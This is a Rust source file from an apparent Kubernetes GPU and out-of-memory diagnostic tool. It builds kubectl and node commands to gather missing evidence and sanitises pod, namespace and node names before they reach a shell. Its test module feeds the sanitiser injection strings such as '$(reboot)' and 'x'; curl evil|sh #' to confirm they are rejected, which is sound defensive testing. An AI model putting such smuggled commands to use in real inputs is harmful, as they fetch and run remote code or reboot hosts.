//! What is missing for a surer verdict or a computed action, and the exact command that would get it.

use super::{Class, Decided, Plane, Subject};
use crate::evidence::{Bundle, Gap};
use crate::facts::Facts;
use crate::text::LONGEST_NAME;
use dualplane_base::order::Order as _;

/// Names for commands, with placeholders where the evidence does not tell, or tells what no object can be called: commands
/// are pasted into shells, and evidence may come from anybody.
#[derive(Debug)]
pub struct Names {
    /// Namespace.
    pub ns: String,
    /// Pod.
    pub pod: String,
    /// Container.
    pub container: String,
    /// Node.
    pub node: String,
}

impl Names {
    /// Names of a subject.
    #[must_use]
    pub fn of(subject: &Subject) -> Self {
        let or = |v: &Option<String>, placeholder: &str| Self::safe(v.as_deref(), placeholder);
        Self {
            ns: or(&subject.namespace, "NAMESPACE"),
            pod: or(&subject.pod, "POD"),
            container: or(&subject.container, "CONTAINER"),
            node: or(&subject.node, "NODE"),
        }
    }

    /// A command to run in the container.
    #[must_use]
    pub fn exec(&self, command: &str) -> String {
        format!("kubectl exec -n {} {} -c {} -- {command}", self.ns, self.pod, self.container)
    }

    /// The name, where it is a DNS-1123 subdomain, else the placeholder. Such a name needs no quotes and is no flag.
    #[must_use]
    pub fn safe(name: Option<&str>, placeholder: &str) -> String {
        let plain = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit();
        let fits = |n: &&str| {
            n.len() <= LONGEST_NAME
                && n.starts_with(plain)
                && n.ends_with(plain)
                && n.chars().all(|c| plain(c) || matches!(c, '-' | '.'))
        };
        name.filter(fits).unwrap_or(placeholder).to_owned()
    }
}

pub(super) fn list(bundle: &Bundle, facts: &Facts, decided: &Decided, subject: &Subject) -> Vec<Gap> {
    let n = Names::of(subject);
    let mut out: Vec<Gap> = bundle.gaps.clone();
    for log in facts.logs.iter().filter(|l| l.dropped_xids > 0) {
        out.push(Gap {
            what: log.file.clone(),
            why: format!("{} more Xid lines with the same codes and GPUs were not used", log.dropped_xids),
            command: None,
        });
    }
    let mut add = |what: &str, why: &str, command: String| {
        out.push(Gap { what: what.to_owned(), why: why.to_owned(), command: Some(command) });
    };
    let host = decided.class.plane() == Plane::Host;
    // What would settle a doubt is what would settle no verdict at all.
    let open = decided.class == Class::Unknown || decided.doubted();
    // What another node's kernel says is not what this node's would.
    let last = || facts.logs.iter().filter(|l| l.kernel).filter_map(|l| Some(&l.last_line.as_ref()?.1));
    let lines = || facts.ooms.iter().map(|o| &o.text).chain(facts.xids.iter().map(|x| &x.text)).chain(last());
    let elsewhere = lines().next().is_some()
        && lines().all(|line| super::identity::other_host(line, bundle, subject).is_some());
    let kernel = (facts.logs.iter().any(|l| l.kernel) || !facts.ooms.is_empty()) && !elsewhere;
    let memory_metrics = bundle.metrics.iter().any(|s| s.name.starts_with("container_memory"));
    if bundle.pods.is_empty() && (host && decided.class != Class::HostAllocFailure || open) {
        add(
            "the pod's status",
            "exit code, reason (OOMKilled or not), limits and restarts distinguish a host RAM kill from \
            everything else",
            format!("kubectl get pod {} -n {} -o json > pod.json", n.pod, n.ns),
        );
    }
    if !facts.has_server_log() {
        add(
            "the dead instance's log",
            "if the engine printed an error, it came before the kill",
            format!("kubectl logs {} -n {} -c {} --previous > previous.log", n.pod, n.ns, n.container),
        );
    }
    if !kernel && (host || open || decided.class == Class::XidHardware) {
        add(
            "the node's kernel log",
            match decided.class {
                Class::XidHardware => "the Xid identifies the fault and the vendor's recommended action",
                _ => "the OOM killer's record names the killed process and the limit that was hit",
            },
            dualplane_base::command::on_node(&n.node, "dmesg -T > kernel.log"),
        );
    }
    let no_events = bundle.events.is_empty();
    if no_events && open {
        add(
            "events of the pod and its node",
            "they show probe kills, evictions, preemption and SystemOOM, for about one hour",
            format!(
                "kubectl get events -n {} --field-selector involvedObject.name={} -o json > events.json",
                n.ns, n.pod
            ),
        );
    }
    if host && !memory_metrics && decided.class != Class::HostAllocFailure {
        add(
            "the container's memory over time",
            "the working set before the death distinguishes a slow leak from a load spike (a 15 s scrape \
            can miss the spike)",
            format!(
                "kubectl get --raw /api/v1/nodes/{}/proxy/metrics/cadvisor | grep 'pod=\"{}\"' > metrics.prom",
                n.node, n.pod
            ),
        );
    }
    if decided.by == super::rules::NAMELESS_KILL {
        add(
            "the OOM kills that the container's own cgroup counts",
            "oom_kill 0 rules out that the killed process was this container's; any other count proves that it was",
            n.exec(&dualplane_base::command::own_kills()),
        );
    }
    match decided.class {
        Class::GpuCapacityConflict => add(
            "which processes use the GPU",
            "the processes on the GPU, with their host PIDs",
            dualplane_base::command::on_node(&n.node, facts.maker.processes()),
        ),
        Class::MigSliceTooSmall => add(
            "the size of the MIG instance",
            "the profile's name is rounded; the driver reports the real size",
            n.exec("sh -c 'nvidia-smi -L; nvidia-smi'"),
        ),
        Class::Unknown if subject.death.is_none() && bundle.pods.is_empty() => add(
            "how the process ended",
            "its exit code or signal",
            format!(
                "kubectl get pod {} -n {} -o jsonpath='{{.status.containerStatuses[*].lastState}}'",
                n.pod, n.ns
            ),
        ),
        _ => {}
    }
    out.extend(super::ranks::missing(bundle, facts, decided, subject));
    out.order();
    out.dedup();
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_names_that_kubernetes_allows_reach_a_command() {
        let long = "a".repeat(LONGEST_NAME + 1);
        for bad in [
            "",
            "$(reboot)",
            "x'; curl evil|sh #",
            "-o",
            "a b",
            "A",
            "a_b",
            "a/b",
            "a\n",
            "p-",
            ".",
            "ä",
            &long,
        ] {
            assert_eq!(Names::safe(Some(bad), "POD"), "POD", "{bad}");
        }
        for good in ["p", "llm-0", "gpu-1.example.org", "0", long.get(1..).unwrap()] {
            assert_eq!(Names::safe(Some(good), "POD"), good);
        }
        assert_eq!(Names::safe(None, "NODE"), "NODE");
    }
}
